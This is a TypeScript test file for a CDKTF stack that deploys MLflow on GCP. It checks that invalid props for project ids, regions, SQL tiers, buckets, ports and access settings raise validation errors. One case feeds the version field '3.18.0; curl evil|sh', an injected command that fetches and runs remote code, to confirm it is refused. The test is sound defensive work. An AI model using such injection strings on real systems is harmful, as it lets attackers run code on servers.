// Bad props are refused at synth with MlflowValidationError naming the prop path, the value
// and what is accepted; every problem at once; tokens are skipped.
import { TerraformVariable, TerraformStack } from "cdktf";
import { MlflowTrackingStack, MlflowTrackingStackProps, MlflowValidationError, MlflowArtifactStore } from "../lib";
import { BASE_PROPS, newApp, synthStack } from "./helpers";

const PUBLIC = { mode: "public" as const, allowedSourceRanges: ["203.0.113.0/24"], allowPlaintextHttp: true };

function build(props: Partial<MlflowTrackingStackProps>): void {
  new MlflowTrackingStack(newApp(), "mlflow", { ...BASE_PROPS, ...props } as MlflowTrackingStackProps);
}

function problemsOf(props: Partial<MlflowTrackingStackProps>): MlflowValidationError {
  try {
    build(props);
  } catch (e) {
    if (e instanceof MlflowValidationError) return e;
    throw e;
  }
  throw new Error("no MlflowValidationError thrown");
}

// [case, props, prop path in the message, a phrase of what is accepted]
const BAD: Array<[string, Partial<MlflowTrackingStackProps>, string, RegExp]> = [
  ["project id too short", { projectId: "abc" }, "projectId", /6-30 lowercase/],
  ["project id with capitals", { projectId: "My-Project" }, "projectId", /GCP project id/],
  ["project id starting with a digit", { projectId: "1project" }, "projectId", /starting with a letter/],
  ["project id ending with a hyphen", { projectId: "my-project-" }, "projectId", /not ending with a hyphen/],
  ["empty project id", { projectId: "" }, "projectId", /GCP project id/],
  ["region without number", { region: "europe-west" }, "region", /europe-west1/],
  ["region as zone", { region: "europe-west1-b" }, "region", /GCP region/],
  ["zone of another region", { zone: "us-central1-a" }, "zone", /a zone of region europe-west1/],
  ["zone malformed", { zone: "europe-west1" }, "zone", /europe-west1-b/],
  ["name prefix with capitals", { namePrefix: "MLflow" }, "namePrefix", /lowercase/],
  ["name prefix too long", { namePrefix: "a".repeat(21) }, "namePrefix", /1-20/],
  ["name prefix with underscore", { namePrefix: "ml_flow" }, "namePrefix", /hyphens/],
  ["name prefix ending with hyphen", { namePrefix: "mlflow-" }, "namePrefix", /not ending with a hyphen/],
  ["label key with capitals", { labels: { Team: "a" } }, 'labels (key "Team")', /label key/],
  ["label value with space", { labels: { team: "a b" } }, "labels.team", /label value/],
  ["label value too long", { labels: { team: "a".repeat(64) } }, "labels.team", /at most 63/],
  ["subnet CIDR malformed", { network: { subnetCidr: "10.0.0.0" } }, "network.subnetCidr", /IPv4 CIDR/],
  ["subnet CIDR with host bits", { network: { subnetCidr: "10.0.0.1/24" } }, "network.subnetCidr", /no host bits/],
  ["subnet CIDR too small", { network: { subnetCidr: "10.0.0.0/30" } }, "network.subnetCidr", /\/29/],
  ["subnet CIDR octet > 255", { network: { subnetCidr: "10.0.300.0/24" } }, "network.subnetCidr", /IPv4 CIDR/],
  ["existing subnet without network", { network: { existingSubnetwork: "default" } }, "network.existingNetwork", /both are needed/],
  ["existing subnet with CIDR", { network: { existingNetwork: "default", existingSubnetwork: "default", subnetCidr: "10.0.0.0/24" } }, "network.subnetCidr", /keeps its own range/],
  ["network name with spaces", { network: { existingNetwork: "my net" } }, "network.existingNetwork", /network or subnetwork name/],
  ["SQL tier of Enterprise Plus", { database: { tier: "db-perf-optimized-N-2" } }, "database.tier", /ENTERPRISE edition/],
  ["SQL tier made up", { database: { tier: "large" } }, "database.tier", /db-g1-small/],
  ["SQL custom tier with 3 vCPUs", { database: { tier: "db-custom-3-7680" } }, "database.tier", /even number of vCPUs/],
  ["SQL custom tier too little memory", { database: { tier: "db-custom-2-3000" } }, "database.tier", /multiple of 256 MiB/],
  ["SQL custom tier too much memory per vCPU", { database: { tier: "db-custom-1-999936" } }, "database.tier", /0\.9-6\.5 GiB per vCPU/],
  ["MySQL version", { database: { databaseVersion: "MYSQL_8_0" } }, "database.databaseVersion", /MLflow needs PostgreSQL/],
  ["unknown Postgres version", { database: { databaseVersion: "POSTGRES_9_6" } }, "database.databaseVersion", /POSTGRES_16/],
  ["availability type", { database: { availabilityType: "MULTI" as never } }, "database.availabilityType", /"ZONAL", "REGIONAL"/],
  ["disk too small", { database: { diskSizeGb: 5 } }, "database.diskSizeGb", /from 10 to 65536/],
  ["disk not whole", { database: { diskSizeGb: 10.5 } }, "database.diskSizeGb", /whole number/],
  ["database name with hyphen", { database: { databaseName: "ml-flow" } }, "database.databaseName", /PostgreSQL identifier/],
  ["reserved user name", { database: { userName: "postgres" } }, "database.userName", /reserved/],
  ["bucket name with capitals", { artifactStore: { bucketName: "My-Bucket" } }, "artifactStore.bucketName", /GCS bucket name/],
  ["bucket name starting goog", { artifactStore: { bucketName: "goog-artifacts" } }, "artifactStore.bucketName", /not starting with "goog"/],
  ["bucket name with google", { artifactStore: { bucketName: "my-google-artifacts" } }, "artifactStore.bucketName", /not containing "google"/],
  ["bucket name too short", { artifactStore: { bucketName: "ab" } }, "artifactStore.bucketName", /3-63/],
  ["derived bucket name with google", { projectId: "google-ml-4711" }, "artifactStore.bucketName (derived from projectId and namePrefix)", /not starting with "goog"/],
  ["retention days zero", { artifactStore: { noncurrentVersionRetentionDays: 0 } }, "artifactStore.noncurrentVersionRetentionDays", /from 1 to 3650/],
  ["machine type with spaces", { server: { machineType: "e2 medium" } }, "server.machineType", /e2-medium/],
  ["boot image as URL", { server: { bootImage: "https://example.com/image" } }, "server.bootImage", /debian-cloud\/debian-12/],
  ["port privileged", { server: { port: 80 } }, "server.port", /unprivileged/],
  ["port too high", { server: { port: 70000 } }, "server.port", /1024 to 65535/],
  ["workers zero", { server: { workers: 0 } }, "server.workers", /from 1 to 32/],
  ["boot disk too small", { server: { bootDiskSizeGb: 5 } }, "server.bootDiskSizeGb", /from 10/],
  ["mlflow latest", { mlflowVersion: "latest" }, "mlflowVersion", /exact MLflow release/],
  ["mlflow 2.x", { mlflowVersion: "2.22.0" }, "mlflowVersion", /3\.5\.0/],
  ["mlflow before host checks", { mlflowVersion: "3.4.0" }, "mlflowVersion", /--allowed-hosts/],
  ["mlflow with shell", { mlflowVersion: "3.18.0; curl evil|sh" }, "mlflowVersion", /exact MLflow release/],
  ["mlflow range", { mlflowVersion: ">=3.5" }, "mlflowVersion", /exact/],
  ["access mode unknown", { access: { mode: "open" as never } }, "access.mode", /"private", "public"/],
  ["public without ranges", { access: { mode: "public", allowPlaintextHttp: true } }, "access.allowedSourceRanges", /at least one CIDR range/],
  ["public without plaintext ack", { access: { mode: "public", allowedSourceRanges: ["203.0.113.0/24"] } }, "access.allowPlaintextHttp", /unencrypted/],
  ["source range malformed", { access: { ...PUBLIC, allowedSourceRanges: ["203.0.113.0"] } }, "access.allowedSourceRanges[0]", /CIDR/],
  ["source range hostname", { access: { ...PUBLIC, allowedSourceRanges: ["office.example.com"] } }, "access.allowedSourceRanges[0]", /CIDR/],
  ["internal range that is public", { access: { internalSourceRanges: ["203.0.113.0/24"] } }, "access.internalSourceRanges[0]", /private IPv4 range/],
  ["internal ranges empty", { access: { internalSourceRanges: [] } }, "access.internalSourceRanges", /at least one range/],
  ["ranges in private mode", { access: { allowedSourceRanges: ["203.0.113.0/24"] } }, "access.allowedSourceRanges", /private mode/],
  ["plaintext flag in private mode", { access: { allowPlaintextHttp: true } }, "access.allowPlaintextHttp", /private mode/],
  ["domain in private mode", { access: { domain: "mlflow.example.com" } }, "access.domain", /private mode/],
  ["IAP member without kind", { access: { iapMembers: ["ada@example.com"] } }, "access.iapMembers[0]", /user:ada@example.com/],
  ["IAP member allUsers", { access: { iapMembers: ["allUsers"] } }, "access.iapMembers[0]", /IAM member/],
  ["IAP member bad domain", { access: { iapMembers: ["domain:not a domain"] } }, "access.iapMembers[0]", /IAM member/],
  ["IAP members in public mode", { access: { ...PUBLIC, iapMembers: ["user:ada@example.com"] } }, "access.iapMembers", /private mode only/],
  ["default permission", { auth: { defaultPermission: "ADMIN" as never } }, "auth.defaultPermission", /"READ", "EDIT"/],
];

describe("bad props", () => {
  test(`at least 40 cases (${BAD.length})`, () => expect(BAD.length).toBeGreaterThanOrEqual(40));

  test.each(BAD)("%s", (_case, props, propPath, accepted) => {
    const error = problemsOf(props);
    const problem = error.problems.find((p) => p.path === propPath);
    expect(problem).toBeDefined();
    expect(problem!.expected).toMatch(accepted);
    expect(error.message).toContain(`${propPath}: `);
    expect(error.message).toContain("mlflow");
  });
});

describe("error shape", () => {
  test("every problem is reported at once, with path, value and what is accepted", () => {
    const error = problemsOf({ projectId: "X", server: { port: 22, machineType: "big" }, database: { tier: "huge" } });
    expect(error.problems.map((p) => p.path)).toEqual(expect.arrayContaining(["projectId", "server.port", "server.machineType", "database.tier"]));
    expect(error.message).toMatch(/Invalid props for mlflow \(\d+ problems\)/);
    expect(error.message).toContain('server.port: 22 is not valid; expected a whole number from 1024 to 65535');
    expect(error.name).toBe("MlflowValidationError");
    expect(error).toBeInstanceOf(Error);
  });

  test("values that are Terraform tokens are skipped, not rejected", () => {
    const app = newApp();
    const stack = new TerraformStack(app, "user");
    const project = new TerraformVariable(stack, "project", { type: "string" });
    expect(() => new MlflowArtifactStore(stack, "Artifacts", { projectId: project.stringValue, region: "europe-west1" })).not.toThrow();
  });

  test("a sub-construct used on its own validates its props, naming its path", () => {
    const stack = new TerraformStack(newApp(), "user");
    expect(() => new MlflowArtifactStore(stack, "Artifacts", { projectId: "acme-ml-prod", region: "europe-west1", bucketName: "Bad" }))
      .toThrow(/Invalid props for user\/Artifacts .*\n.*artifactStore\.bucketName: "Bad"/);
  });
});

describe("good props pass", () => {
  const GOOD: Array<[string, Partial<MlflowTrackingStackProps>]> = [
    ["defaults", {}],
    ["realistic private", { projectId: "acme-ml-prod-4711", region: "us-central1", zone: "us-central1-f", namePrefix: "team-a", labels: { team: "ml", "cost-center": "cc_42" }, access: { iapMembers: ["group:ml-team@acme.com", "user:ada@acme.com", "serviceAccount:ci@acme-ml-prod.iam.gserviceaccount.com", "domain:acme.com", "principalSet://iam.googleapis.com/locations/global/workforcePools/acme/group/ml"] } }],
    ["public with ranges", { access: { mode: "public", allowedSourceRanges: ["203.0.113.0/24", "198.51.100.7/32", "2001:db8::/32"], allowPlaintextHttp: true } }],
    ["bigger database", { database: { tier: "db-custom-4-15360", availabilityType: "REGIONAL", diskSizeGb: 100, databaseVersion: "POSTGRES_15", databaseName: "mlflow_prod", userName: "mlflow_app" } }],
    ["own bucket", { artifactStore: { bucketName: "acme_ml-artifacts.v2".replace(".", "-"), location: "EU", versioning: false, forceDestroy: true, noncurrentVersionRetentionDays: 7 } }],
    ["server options", { mlflowVersion: "3.5.0", server: { machineType: "n2-standard-4", bootImage: "projects/debian-cloud/global/images/family/debian-12", bootDiskSizeGb: 50, port: 8080, workers: 8 }, database: { tier: "db-custom-2-7680" } }],
    ["existing network by path", { network: { existingNetwork: "projects/shared-vpc-host/global/networks/prod", existingSubnetwork: "projects/shared-vpc-host/regions/europe-west1/subnetworks/ml" } }],
    ["no auth", { auth: { basicAuth: false } }],
    ["other permission", { auth: { defaultPermission: "NO_PERMISSIONS" } }],
  ];
  test.each(GOOD)("%s", (_case, props) => {
    expect(() => synthStack(props)).not.toThrow();
  });
});
